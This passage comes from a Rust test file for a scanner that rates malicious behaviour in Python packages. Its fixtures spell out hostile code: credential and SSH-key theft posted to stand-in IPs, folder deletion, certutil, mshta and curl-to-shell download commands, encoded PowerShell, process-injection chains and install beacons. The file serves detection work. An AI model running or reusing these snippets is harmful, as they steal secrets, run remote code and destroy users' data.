        "def header(url):\n    return urllib.request.Request(url).get_header('Cookie')",
    );
    assert_ne!(built, browser);
    assert_eq!(worst(&built), Some(Severity::Medium));
    let opened = built.replace(
        "return urllib.request.Request(url).get_header('Cookie')",
        "return opener.open(urllib.request.Request(url))",
    );
    assert_eq!(worst(&opened), Some(Severity::High));
    let sent = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                requests.post('https://203.0.113.4/k', data=key)\n";
    assert_eq!(worst(sent), Some(Severity::Critical));
}

/// When it runs sets the level of a deletion in the user's folders: asked
/// for through a function nothing calls while loading (a library's `rm`),
/// medium; run while the module loads, directly, through a function it
/// calls or through a handler it hooks, high. Written for the test.
#[test]
fn deleting_user_folders_is_judged_by_when_it_runs() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/mod.py", bytes: src.as_bytes() }]);
        let f = report.findings.iter().find(|f| f.rule == "destroy-user-data").unwrap_or_else(|| panic!("{src}"));
        f.severity
    };
    let def = "import os, shutil\ndef wipe():\n    shutil.rmtree(os.path.expanduser('~/Documents'))\n";
    assert_eq!(level(def), Severity::Medium);
    assert_eq!(level(&format!("{def}wipe()\n")), Severity::High);
    assert_eq!(level(&format!("{def}def main():\n    wipe()\nmain()\n")), Severity::High);
    assert_eq!(level(&format!("{def}import threading\nthreading.Thread(target=wipe).start()\n")), Severity::High);
    assert_eq!(level(&format!("{def}doc.DocumentOpened += wipe\n")), Severity::High);
    // Put in an imported module's place of its namesake (a patch): it runs
    // when that module's callers call it. On an object, a hook as above.
    assert_eq!(level(&format!("{def}shutil.wipe = wipe\n")), Severity::Medium);
    assert_eq!(level(&format!("{def}doc.wipe = wipe\n")), Severity::High);
    // An imported module's member of the same name is that module's.
    assert_eq!(level(&format!("{def}import cleaner\ncleaner.wipe()\nold = shutil.wipe\n")), Severity::Medium);
    assert_eq!(level(&format!("{def}import cleaner\nthing.wipe()\n")), Severity::High);
    assert_eq!(level("import os, shutil\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"), Severity::High);
    // Only a definition of another function calls it: still only when asked.
    assert_eq!(level(&format!("{def}def clean():\n    wipe()\n")), Severity::Medium);
}

/// A download and a process start make download-then-run only where they
/// meet: in one function, both while the module loads, or on one path.
/// Apart, each when a caller asks, they are a medium note. Where they meet,
/// when decides: on a caller's request (a tool installing a runtime) high,
/// while the module loads critical. Written for the test.
#[test]
fn a_download_and_a_process_count_together_only_where_they_meet() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/tool.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "download-then-run").map(|f| (f.severity, f.because.clone()))
    };
    let apart = "import subprocess, urllib.request\n\
                 def fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n\
                 def build():\n    subprocess.check_call(['npm', 'run', 'build'])\n";
    assert_eq!(level(apart).map(|l| l.0), Some(Severity::Medium));
    // The same path handed to both: one act, even in two functions.
    let path = "import subprocess, urllib.request\nTOOL = 'helper.exe'\n\
                def fetch(url):\n    urllib.request.urlretrieve(url, TOOL)\n\
                def start():\n    subprocess.Popen([TOOL])\n";
    let (sev, because) = level(path).expect("found");
    assert_eq!(sev, Severity::High);
    assert!(because.iter().any(|b| b == "together: on the same path"), "{because:?}");
    let (sev, _) = level(&format!("{path}fetch('http://203.0.113.8/x')\nstart()\n")).expect("found");
    assert_eq!(sev, Severity::Critical);
    // Both called while the module loads.
    let (sev, because) = level(&format!("{apart}fetch('http://203.0.113.8/x', 'x')\nbuild()\n")).expect("found");
    assert_eq!(sev, Severity::Critical);
    assert!(because.iter().any(|b| b.contains("both while the module loads")), "{because:?}");
    // In one function.
    let one = "import subprocess, urllib.request\ndef go(url):\n    \
               urllib.request.urlretrieve(url, 'a.bin')\n    subprocess.Popen(['b'])\n";
    assert_eq!(level(one).map(|l| l.0), Some(Severity::High));
    assert_eq!(level(&format!("{one}go('http://203.0.113.8/x')\n")).map(|l| l.0), Some(Severity::Critical));
    // A module's default object whose method does it, bound again under the
    // same name for its users (`download = _downloader.download`): nothing
    // runs while loading. Called while loading, or handed on under another
    // name, it does.
    let api = "import subprocess, urllib.request\nclass Downloader:\n    def download(self, url):\n        \
               urllib.request.urlretrieve(url, 'a.sh')\n        subprocess.call(['sudo', 'a.sh'])\n\
               _downloader = Downloader()\ndownload = _downloader.download\n";
    assert_eq!(level(api).map(|l| l.0), Some(Severity::High), "{api}");
    for loads in [format!("{api}download('http://203.0.113.8/x')\n"), api.replace("download = _d", "hook = _d")] {
        assert_eq!(level(&loads).map(|l| l.0), Some(Severity::Critical), "{loads}");
    }
    // Run as a program (`python -m`): its user asked for it.
    let program = format!("{one}if __name__ == '__main__':\n    go('http://203.0.113.8/x')\n");
    assert_eq!(level(&program).map(|l| l.0), Some(Severity::High));
    // In one function, a transfer tool started before anything is fetched
    // (another branch) starts nothing downloaded.
    let before = "import subprocess, urllib.request\ndef go(url, sftp):\n    if sftp:\n        \
                  subprocess.run([sftp, url])\n        return\n    data = urllib.request.urlopen(url).read()\n    \
                  with open('a.bin', 'wb') as f:\n        f.write(data)\n";
    assert_eq!(level(before).map(|l| l.0), Some(Severity::Medium), "{before}");
    // Two functions whose local variables share a name, or a call that
    // reads a key of the same spelling, are not on one path.
    let namesakes = "import subprocess, urllib.request\n\
                     def fetch(url):\n    urllib.request.urlretrieve(url, 'cache.bin')\n\
                     def clone(wrap):\n    subprocess.check_call(['hg', 'clone', wrap.get('url')])\n";
    assert_eq!(level(namesakes).map(|l| l.0), Some(Severity::Medium), "{namesakes}");
    // Unpacking or removing what was fetched starts none of it; starting
    // what came out of the archive, or tar told to run a program, does.
    let unpack = "import subprocess, urllib.request\ndef setup_bader():\n    \
                  urllib.request.urlretrieve('https://example.org/bader.tar.gz', 'bader.tar.gz')\n    \
                  subprocess.call(['/usr/bin/tar', '-zxf', 'bader.tar.gz'])\n    \
                  subprocess.call(['cp', 'makefile.osx_' + fortran_command, 'makefile'])\n    \
                  subprocess.call('rm bader.tar.gz', shell=True)\n";
    assert_eq!(level(unpack), None, "{unpack}");
    let run = format!("{unpack}    subprocess.call(['./bader', 'CHGCAR'])\n");
    assert_eq!(level(&run).map(|l| l.0), Some(Severity::High), "{run}");
    for hostile in [
        unpack.replace("'-zxf', 'bader.tar.gz'", "'-xf', 'bader.tar.gz', '--to-command=sh'"),
        unpack.replace("'rm bader.tar.gz'", "'rm bader.tar.gz; ./bader'"),
    ] {
        assert_eq!(level(&hostile).map(|l| l.0), Some(Severity::High), "{hostile}");
    }
}

/// A repository cloned with a copy of the environment (`env=`, GitPython
/// running `git clone`) holds the cloned files, not that environment: its
/// file list sent on is no environment sent. The environment itself sent,
/// or handed to a data object, is. Written for the test.
#[test]
fn a_repository_cloned_with_the_environment_does_not_hold_it() {
    let exfil = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/sync.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "exfiltration").map(|f| f.severity)
    };
    let sync = "import os, git, requests\ndef sync(api, remote, path):\n    env = os.environ.copy()\n    \
                env['http_proxy'] = remote.proxy\n    \
                repo = git.Repo.clone_from(remote.url, path, env=env)\n    \
                files = [b.path for b in repo.tree().traverse()]\n    requests.post(api, json={'objects': files})\n";
    assert_eq!(exfil(sync), None, "{sync}");
    for sent in [
        sync.replace("json={'objects': files}", "json={'objects': files, 'env': env}"),
        sync.replace("json={'objects': files}", "json=dict(env=env)"),
    ] {
        assert!(exfil(&sent).is_some_and(|s| s >= Severity::High), "{sent}");
    }
}

/// A method of the caller's own class named like a network call (a
/// wallet's `self.send(outputs, priv_keys=...)`) is the package's function:
/// what it does with its parameters is judged inside it. Written for the test.
#[test]
fn a_method_of_its_own_class_named_send_is_not_a_network_send() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "wallet/wallets.py", bytes: src.as_bytes() }]);
        report.findings.iter().map(|f| (f.rule, f.severity)).collect::<Vec<_>>()
    };
    let wallet = "import os\nclass Wallet:\n    def send(self, outputs, priv_keys=None):\n        \
                  tx = self.sign(outputs, priv_keys)\n        return self.store(tx)\n\n    \
                  def send_to(self, to_address, amount, priv_keys=None):\n        \
                  key = open(os.path.expanduser('~/.aws/credentials')).read()\n        \
                  return self.send([(to_address, amount)], priv_keys=priv_keys or key)\n";
    let r = rules(wallet);
    assert!(!r.iter().any(|(id, _)| *id == "exfiltration"), "{r:?}");
    // Its own `send` that posts what it is handed to an address written in
    // the code still sends it.
    let posts = wallet.replace(
        "tx = self.sign(outputs, priv_keys)\n        return self.store(tx)",
        "import requests\n        return requests.post('http://203.0.113.9/k', data=priv_keys)",
    );
    let r = rules(&posts);
    assert!(r.iter().any(|(id, s)| *id == "exfiltration" && *s >= Severity::High), "{r:?}");
    // A `send` the class does not define (a socket subclass's) is a send.
    let socket = wallet
        .replace("class Wallet:", "import socket\nclass Wallet(socket.socket):")
        .replace("def send(", "def sent(");
    let r = rules(&socket);
    assert!(r.iter().any(|(id, _)| *id == "exfiltration"), "{r:?}");
}

/// What exec and eval run is their first argument: a namespace that went
/// through a reversing slice is data, not hidden code. Written for the test.
#[test]
fn only_the_code_argument_of_exec_decides_whether_it_runs_decoded_code() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/gen.py", bytes: src.as_bytes() }]);
        report.findings.iter().map(|f| (f.rule, f.severity)).collect::<Vec<_>>()
    };
    let ns = "ns = {}\nfor m in mods[::-1]:\n    ns.update(m)\nexec(line, {}, ns)\n";
    let r = rules(ns);
    assert!(r.contains(&("exec-dynamic", Severity::Medium)) && !r.iter().any(|(id, _)| *id == "exec-decoded"), "{r:?}");
    let hidden = "import base64\nns = {}\nexec(base64.b64decode(blob), {}, ns)\n";
    assert!(rules(hidden).contains(&("exec-decoded", Severity::Critical)));
    let keyword = "import base64\ncode = compile(source=base64.b64decode(blob), filename='x', mode='exec')\n";
    assert!(rules(keyword).contains(&("exec-decoded", Severity::Critical)), "{:?}", rules(keyword));
}

/// Data flows that cross files of one package: one module reads a secret,
/// decodes a payload or fetches code and returns it; another sends, runs or
/// starts what it gets back. Written for the test.
#[test]
fn data_flows_across_the_files_of_a_package_are_followed() {
    let grab = "import os\ndef tokens():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n";
    let send = "import requests\nfrom . import grab\ndef go():\n    d = grab.tokens()\n    \
                requests.post('http://203.0.113.9/x', data=d)\ngo()\n";
    let f = |entries: &[Entry<'_>], rule: &str| {
        let report = scan(&ManifestFacts::default(), entries);
        report.findings.iter().find(|f| f.rule == rule).cloned()
    };
    // Either order of files: the join waits for every file.
    for entries in [
        [Entry { path: "pkg/grab.py", bytes: grab.as_bytes() }, Entry { path: "pkg/main.py", bytes: send.as_bytes() }],
        [Entry { path: "pkg/main.py", bytes: send.as_bytes() }, Entry { path: "pkg/grab.py", bytes: grab.as_bytes() }],
    ] {
        let x = f(&entries, "exfiltration").expect("exfiltration across files");
        assert_eq!((x.severity, x.file.as_str(), x.line), (Severity::Critical, "pkg/main.py", 5), "{x:#?}");
        assert!(x.because.iter().any(|b| b.contains("`tokens` (pkg/grab.py, line 2)")), "{x:#?}");
        assert!(x.because[0].contains("`go` (line 3)"), "{x:#?}");
    }
    // Alone, the sender sends nothing secret.
    assert!(f(&[Entry { path: "pkg/main.py", bytes: send.as_bytes() }], "exfiltration").is_none());
    // A decoded payload run by another module, imported by name.
    let payload = "import base64\ndef load():\n    return base64.b64decode(BLOB)\n";
    let runner = "from .payload import load\nexec(load())\n";
    let entries = [
        Entry { path: "a/payload.py", bytes: payload.as_bytes() },
        Entry { path: "a/run.py", bytes: runner.as_bytes() },
    ];
    assert_eq!(f(&entries, "exec-decoded").map(|x| x.severity), Some(Severity::Critical));
    // Another module's decryptor applied, when asked, to what a function
    // reads from its database (a credentials helper `eval`ing the dict it
    // stored encrypted): a deserializer, for a reviewer, as within one
    // file. Run while loading, or with a payload either file carries, it
    // is the package's own hidden code again.
    let decrypt = "from cryptography.fernet import Fernet\nimport os\n\
                   def decrypt_secure(s):\n    return Fernet(os.environ['KEY']).decrypt(s.encode()).decode()\n";
    let helper = "from pkg.core.encrypt import decrypt_secure\n\
                  def get_credentials(db, email):\n    r = db.execute_query(email)\n    \
                  return eval(decrypt_secure(r[0]['token']))\n";
    let asked = [
        Entry { path: "pkg/core/encrypt.py", bytes: decrypt.as_bytes() },
        Entry { path: "pkg/auth.py", bytes: helper.as_bytes() },
    ];
    let x = f(&asked, "exec-decoded").expect("reported");
    assert_eq!(x.severity, Severity::Medium, "{x:#?}");
    let at_load = format!("{helper}get_credentials(DB, 'a@b.c')\n");
    let carried = helper.replace("r[0]['token']", "'Z0FBQUFBQm1RbTFhYjNkUmN2eGJ3'");
    let own =
        format!("{decrypt}BLOB = 'Z0FBQUFBQm1RbTFhYjNkUmN2eGJ3'\ndef payload():\n    return decrypt_secure(BLOB)\n");
    for (encrypt, auth) in [(decrypt, at_load.as_str()), (decrypt, carried.as_str()), (own.as_str(), helper)] {
        let entries = [
            Entry { path: "pkg/core/encrypt.py", bytes: encrypt.as_bytes() },
            Entry { path: "pkg/auth.py", bytes: auth.as_bytes() },
        ];
        let x = f(&entries, "exec-decoded").expect("reported");
        assert_eq!(x.severity, Severity::Critical, "{encrypt}\n{auth}\n{x:#?}");
    }
    // A download started as a command by a module of a package (`pkg.net`).
    let net = "import urllib.request\ndef command():\n    return urllib.request.urlopen(URL).read().decode()\n";
    let start = "import os, pkg.net\nos.system(pkg.net.command())\n";
    let entries = [
        Entry { path: "pkg/net/__init__.py", bytes: net.as_bytes() },
        Entry { path: "pkg/go.py", bytes: start.as_bytes() },
    ];
    assert_eq!(f(&entries, "process-decoded").map(|x| x.severity), Some(Severity::Critical));
    // The same on a caller's request: a tool's work (a registry's token
    // handed to its command-line client), high.
    let asked = "import os, pkg.net\ndef login():\n    os.system(pkg.net.command())\n";
    let entries = [
        Entry { path: "pkg/net/__init__.py", bytes: net.as_bytes() },
        Entry { path: "pkg/go.py", bytes: asked.as_bytes() },
    ];
    assert_eq!(f(&entries, "process-decoded").map(|x| x.severity), Some(Severity::High));
    // A function of the same name in an unrelated module does not count.
    let entries =
        [Entry { path: "pkg/other.py", bytes: grab.as_bytes() }, Entry { path: "pkg/main.py", bytes: send.as_bytes() }];
    assert!(f(&entries, "exfiltration").is_none());
    // One token read by a config module, sent by the client on request to
    // the address its caller configured: how an SDK authenticates (medium,
    // as within one file); to an address written in the code, high; while
    // the module loads, critical; a wallet's phrase stays high.
    let misc = "import os\ndef platform_token():\n    return os.environ.get('PLATFORM_TOKEN')\n";
    let client = "import requests\nfrom .misc import platform_token\n\
                  def actions(base):\n    return requests.get(base + '/actions', headers={'Authorization': platform_token()})\n";
    let pair = |client: &str, misc: &str| {
        let entries = [
            Entry { path: "sdk/misc.py", bytes: misc.as_bytes() },
            Entry { path: "sdk/client.py", bytes: client.as_bytes() },
        ];
        f(&entries, "exfiltration").map(|x| x.severity)
    };
    assert_eq!(pair(client, misc), Some(Severity::Medium));
    let literal = client.replace("base + '/actions'", "'https://collector.example.invalid/actions'");
    assert_eq!(pair(&literal, misc), Some(Severity::High));
    assert_eq!(pair(&format!("{literal}actions(None)\n"), misc), Some(Severity::Critical));
    let wallet =
        misc.replace("return os.environ", "mnemonic = os.environ").replace("')\n", "')\n    return mnemonic\n");
    assert_eq!(pair(client, &wallet), Some(Severity::High));
}

/// Code generated from a template written in the file (a proxy method per
/// name received over a pipe) shows its shape to a reader: medium. The same
/// call running whatever arrives is critical. Written for the test.
#[test]
fn code_generated_from_a_visible_template_is_not_hidden_code() {
    let rules = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/proxy.py", bytes: src.as_bytes() }]);
        report.findings.iter().map(|f| (f.rule, f.severity)).collect::<Vec<_>>()
    };
    let template = "def make(conn, ns):\n    for meth in conn.recv():\n        \
                    exec('''def %s(self, *args):\\n    return self._call(%r, args)''' % (meth, meth), ns)\n";
    let r = rules(template);
    assert!(r.contains(&("exec-dynamic", Severity::Medium)), "{r:?}");
    assert!(!r.iter().any(|(_, s)| *s >= Severity::High), "{r:?}");
    // Running whatever arrives is high when a caller asks, critical as soon
    // as the module loads (see `code_fetched_and_run_is_critical_unless_asked`).
    let whatever = "def run(conn, ns):\n    exec(conn.recv(), ns)\n";
    assert!(rules(whatever).contains(&("exec-downloaded", Severity::High)), "{:?}", rules(whatever));
    let loaded = format!("{whatever}run(connect(), {{}})\n");
    assert!(rules(&loaded).contains(&("exec-downloaded", Severity::Critical)), "{:?}", rules(&loaded));
    // A trivial template around what arrives is no template.
    let wrapped = "def run(conn, ns):\n    exec('%s' % conn.recv(), ns)\n";
    assert!(rules(wrapped).contains(&("exec-downloaded", Severity::High)), "{:?}", rules(wrapped));
}

/// Shellcode is a chain (memory made executable, then code copied in or a
/// thread started; or another process written to and a thread started in
/// it), not one memory call. Written for the test.
#[test]
fn shellcode_is_executable_memory_then_a_copy_or_a_thread() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/w.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "native-shellcode").map(|f| (f.severity, f.because.clone()))
    };
    let copy =
        "import ctypes\nk = ctypes.windll.kernel32\ndef write(dest, msg, n):\n    k.RtlMoveMemory(dest, msg, n)\n";
    assert_eq!(level(copy), None);
    let rw = "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(None, 4096, 0x1000, 0x04)\nk.RtlMoveMemory(p, b, 4)\n";
    assert_eq!(level(rw), None);
    let rwx = "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(None, n, 0x3000, 0x40)\n\
               k.RtlMoveMemory(p, b, n)\nk.CreateThread(0, 0, p, 0, 0, None)\n";
    let (sev, because) = level(rwx).expect("shellcode");
    assert_eq!(sev, Severity::Critical);
    assert!(
        because.iter().any(|b| b.starts_with("prepares: `ctypes.windll.kernel32.VirtualAlloc` at line 3")),
        "{because:?}"
    );
    let inject = "import ctypes\nk = ctypes.windll.kernel32\nk.WriteProcessMemory(h, a, b, n, None)\n\
                  k.CreateRemoteThread(h, None, 0, a, None, 0, None)\n";
    assert_eq!(level(inject).map(|l| l.0), Some(Severity::Critical));
    // A binding library defines one function per API, each named after the
    // call it makes: no chain. Functions of other names making them are one.
    let bindings = "import ctypes\nk = ctypes.windll.kernel32\n\
                    def WriteProcessMemory(h, a, b, n):\n    return k.WriteProcessMemory(h, a, b, n, None)\n\
                    def CreateRemoteThread(h, a):\n    return k.CreateRemoteThread(h, None, 0, a, None, 0, None)\n";
    assert_eq!(level(bindings), None);
    let injector =
        bindings.replace("def CreateRemoteThread(", "def start(").replace("def WriteProcessMemory(", "def put(");
    assert_eq!(level(&injector).map(|l| l.0), Some(Severity::High), "{injector}");
    // Opcodes written out in the source, run when a caller asks (a CPU
    // feature probe): high, reviewed; decoded bytes stay critical when
    // called, and the same probe at module level runs on import.
    let probe = "import ctypes\nOPC = [0x53, 0x31, 0xc0, 0x0f, 0xa2, 0x5b, 0xc3]\nclass CPUID:\n    def __init__(self):\n        \
                 k = ctypes.windll.kernel32\n        code = (ctypes.c_ubyte * 7)(*OPC)\n        \
                 self.addr = k.VirtualAlloc(None, 7, 0x3000, 0x40)\n        ctypes.memmove(self.addr, code, 7)\n";
    assert_eq!(level(probe).map(|l| l.0), Some(Severity::High));
    let decoded = probe.replace("(*OPC)", "(*base64.b64decode(B))").replace("import ctypes", "import base64, ctypes");
    assert_eq!(level(&decoded).map(|l| l.0), Some(Severity::Critical));
    // Calling the class at module level runs its `__init__` on import;
    // naming it (`Probe = CPUID`) runs nothing.
    let at_import = format!("{probe}CPUID()\n");
    assert_eq!(level(&at_import).map(|l| l.0), Some(Severity::Critical));
    let named = format!("{probe}Probe = CPUID\n");
    assert_eq!(level(&named).map(|l| l.0), Some(Severity::High));
}

/// Commands run while the package installs (issue 19): a computed command
/// through the shell in setup.py is high (medium in code a user calls); a
/// command of the kind malware uses is critical there and at import (high
/// in a function a caller calls).
/// Written for the test.
#[test]
fn commands_run_at_install_are_judged_as_the_package_acting_alone() {
    let level = |path: &str, src: &str, rule: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == rule).map(|f| f.severity)
    };
    let computed = "import os\ncmd = 'echo ' + NAME\nos.system(cmd)\nsetup(name='x')\n";
    assert_eq!(level("setup.py", computed, "process-shell"), Some(Severity::High));
    assert_eq!(level("pkg/tool.py", computed, "process-shell"), Some(Severity::Medium));
    let hostile = "import subprocess\nsubprocess.Popen('powershell -w hidden -enc SQBFAFgA', shell=True)\n";
    assert_eq!(level("setup.py", hostile, "process-hostile"), Some(Severity::Critical));
    // At a module's top level it runs on import, before anyone asked (a
    // miner started from a compromised library's `__init__`): critical; in
    // a function a caller calls, high.
    assert_eq!(level("pkg/tool.py", hostile, "process-hostile"), Some(Severity::Critical));
    let called = hostile.replace("subprocess.Popen(", "def run():\n    subprocess.Popen(");
    assert_eq!(level("pkg/tool.py", &called, "process-hostile"), Some(Severity::High));
    // A literal command in setup.py (a version from git) is a plain process.
    let version = "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n";
    assert_eq!(level("setup.py", version, "process"), Some(Severity::Info));
}

/// A program's entry (`if __name__ == "__main__":`, a `__main__.py`) runs
/// when someone runs the package as a program, not when it is imported: a
/// command-line tool deleting the folder it was pointed at is medium there,
/// and the chain says when. Written for the test.
#[test]
fn a_programs_entry_runs_when_someone_runs_it() {
    let finding = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "destroy-user-data").cloned().expect("a deletion")
    };
    let tool = "import os, shutil\ndef clean():\n    shutil.rmtree(os.path.expanduser('~/Documents/out'))\n";
    let guarded = format!("{tool}if __name__ == '__main__':\n    clean()\n");
    assert_eq!(finding("pkg/tool.py", &guarded).severity, Severity::Medium);
    // The test in parentheses is the same entry.
    let parenthesised = format!("{tool}if (__name__ == \"__main__\"):\n    clean()\n");
    assert_eq!(finding("pkg/tool.py", &parenthesised).severity, Severity::Medium);
    assert_eq!(finding("pkg/__main__.py", &format!("{tool}clean()\n")).severity, Severity::Medium);
    // Called at module level of an ordinary module: at import, high.
    let f = finding("pkg/tool.py", &format!("{tool}clean()\n"));
    assert_eq!(f.severity, Severity::High);
    assert!(f.because[0].contains("as soon as the module is imported"), "{f:#?}");
    // A high finding in the main block says so.
    let beacon = "import os, requests\nif __name__ == \"__main__\":\n    \
                  requests.post('http://203.0.113.9/x', json=dict(os.environ))\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/cli.py", bytes: beacon.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "exfiltration").expect("exfiltration");
    assert!(f.because[0].contains("runs the package as a program"), "{f:#?}");
}

/// The system's own tools count as hostile in the forms attacks use them,
/// not by name: a checksum with certutil, a printer dialog through
/// rundll32, a local PowerShell script with the policy bypassed are how
/// tools work. Written for the test.
#[test]
fn system_tools_are_hostile_in_their_attack_forms_only() {
    let hostile = |cmd: &str| {
        let src = format!("import subprocess\nsubprocess.call({cmd:?}, shell=True)\n");
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/t.py", bytes: src.as_bytes() }]);
        report.findings.iter().any(|f| f.rule == "process-hostile")
    };
    for ordinary in [
        "certutil -hashfile setup.exe SHA256",
        "rundll32 printui.dll,PrintUIEntry /il",
        "regsvr32 /s RevitAddin.dll",
        "powershell -ExecutionPolicy Bypass -File .\\export.ps1",
        "nohup ./server &",
        // A pipe into a longer name, in any case, is no pipe into a shell
        // (an alternation in a regular expression of pronouns).
        "grep -E '(He|he|She|she|It|it)$' words.txt",
        "grep -E '(Shell|Show)' words.txt",
    ] {
        assert!(!hostile(ordinary), "{ordinary}");
    }
    for attack in [
        "certutil -urlcache -split -f http://203.0.113.4/a.exe a.exe",
        "certutil -decode blob.txt a.exe",
        "regsvr32 /s /n /u /i:http://203.0.113.4/x.sct scrobj.dll",
        "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"",
        "powershell -w hidden -enc SQBFAFgA",
        "mshta http://203.0.113.4/x.hta",
        "curl -s http://203.0.113.4/x |SH",
    ] {
        assert!(hostile(attack), "{attack}");
    }
}

/// A command built from what was downloaded: the package's own act while
/// it loads (critical), a tool's on its user's request (high); decoded, it
/// is hidden whenever it runs (critical). Written for the test.
#[test]
fn a_downloaded_command_is_judged_by_when_it_runs() {
    let level = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: src.as_bytes() }]);
        report.findings.iter().find(|f| f.rule == "process-decoded").map(|f| f.severity)
    };
    let at_load = "import os, urllib.request\n\
                   os.system(urllib.request.urlopen('http://203.0.113.8/c').read().decode())\n";
    assert_eq!(level(at_load), Some(Severity::Critical));
    let asked = "import subprocess, json, urllib.request\ndef upgrade():\n    \
                 v = json.loads(urllib.request.urlopen('https://registry.example.invalid/npm').read())['latest']\n    \
                 subprocess.check_call(['npm', 'install', '-g', 'npm@' + v])\n";
    assert_eq!(level(asked), Some(Severity::High));
    let decoded = "import base64, subprocess\ndef go():\n    \
                   subprocess.call(base64.b64decode('bHMgLWxh').decode(), shell=True)\n";
    assert_eq!(level(decoded), Some(Severity::Critical));
}

/// The dependency-confusion beacon in `__init__`: who and where it runs,
/// sent as soon as the module is imported to an address the author wrote
/// (literal, a webhook, one assembled in another file) is high; the same
/// send in a function a user calls, or to an address the caller gives, is
/// not. Written for the test.
#[test]
fn a_beacon_at_import_is_high_and_the_same_send_on_request_is_not() {
    let beacon = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.into_iter().find(|f| f.rule == "import-beacon")
    };
    for src in [
        "import getpass, socket, requests\n\
         requests.post('https://collector.example.invalid/b', json={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
        "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'content': os.getcwd()})\n",
        // Called while the module loads: still at import.
        "import platform\nfrom urllib import request\ndef ping():\n    \
         request.urlopen('http://198.51.100.7/p?n=' + platform.node())\nping()\n",
    ] {
        let f = beacon("pkg/__init__.py", src).unwrap_or_else(|| panic!("{src}"));
        assert_eq!(f.severity, Severity::High, "{src}");
        assert!(f.because[0].contains("imported"), "{f:#?}");
    }
    // Telemetry a user asks for, or sent where the caller says: not a beacon.
    let called = "import platform, requests\ndef report(url):\n    requests.post(url, data=platform.node())\n";
    assert!(beacon("pkg/__init__.py", called).is_none());
    let on_request = "import platform, requests\ndef report():\n    \
                      requests.post('https://collector.example.invalid', data=platform.node())\n";
    assert!(beacon("pkg/__init__.py", on_request).is_none());
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/t.py", bytes: on_request.as_bytes() }]);
    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);

    // Identity gathered in one module, sent by another's module level.
    let util = "import getpass, socket\ndef who():\n    return getpass.getuser() + '@' + socket.gethostname()\n";
    let init = "import requests\nfrom .util import who\n\
                requests.get('https://collector.example.invalid/p', params={'w': who()})\n";
    let report = scan(
        &ManifestFacts::default(),
        &[
            Entry { path: "pkg/util.py", bytes: util.as_bytes() },
            Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
        ],
    );
    let f =
        report.findings.iter().find(|f| f.rule == "import-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!((f.severity, f.file.as_str()), (Severity::High, "pkg/__init__.py"));
    assert!(f.because.iter().any(|b| b.contains("`who` (pkg/util.py, line 2)")), "{f:#?}");
}

/// A what-is-my-IP answer says where the code runs: sent home while the
/// package installs, it is an install beacon. Written for the test.
#[test]
fn a_public_ip_sent_at_install_is_a_beacon() {
    let src = "import requests\nfrom setuptools import setup\n\
               ip = requests.get('https://api.ipify.org').text\n\
               requests.get('http://198.51.100.7:8080/?ip=' + ip)\nsetup(name='x', version='1')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!((f.severity, f.line), (Severity::Critical, 4));
    // Fetching an ordinary page at install and sending it on is no beacon.
    let plain = src.replace("https://api.ipify.org", "https://example.invalid/version.txt");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: plain.as_bytes() }]);
    assert!(!report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);
}

/// A wallet's recovery phrase sent out: to an address written in the code
/// it is exfiltration (critical); to an address the caller configures,
/// medium; kept local (a wallet library deriving keys), nothing. Written
/// for the test.
#[test]
fn a_wallet_recovery_phrase_sent_out_is_exfiltration() {
    let stolen = "import requests\ndef restore(mnemonic):\n    \
                  requests.post('https://wallet-sync.example.invalid/api', json={'phrase': mnemonic})\n    \
                  return mnemonic.split()\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "w/wallet.py", bytes: stolen.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.because.iter().any(|b| b.contains("recovery phrase")), "{f:#?}");
    let configured = stolen.replace("'https://wallet-sync.example.invalid/api'", "self_url");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "w/wallet.py", bytes: configured.as_bytes() }]);
